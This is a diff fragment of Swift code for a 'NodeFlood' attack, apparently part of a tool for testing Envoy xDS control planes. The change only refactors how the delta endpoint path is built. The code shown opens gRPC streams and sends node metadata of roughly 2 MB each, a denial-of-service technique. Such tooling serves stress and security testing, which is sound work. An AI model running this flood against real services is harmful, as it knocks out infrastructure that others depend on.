@@ -32,7 +32,7 @@ struct NodeFlood: Attack {
     }
 
     private func fill(_ client: GRPCSender, _ number: Int) async throws {
-        let stream = try await client.openStream(Method.deltaEndpoints.path)
+        let stream = try await client.openStream(Method.of(.clusterLoadAssignment, .delta).path)
         let type = TypeURL.clusterLoadAssignment.rawValue
         let half = String(repeating: "m", count: 2_090_000)
         let node = Node(id: "node-\(number)", userAgent: Node.envoyAgent, metadata: ["one": half, "two": half])
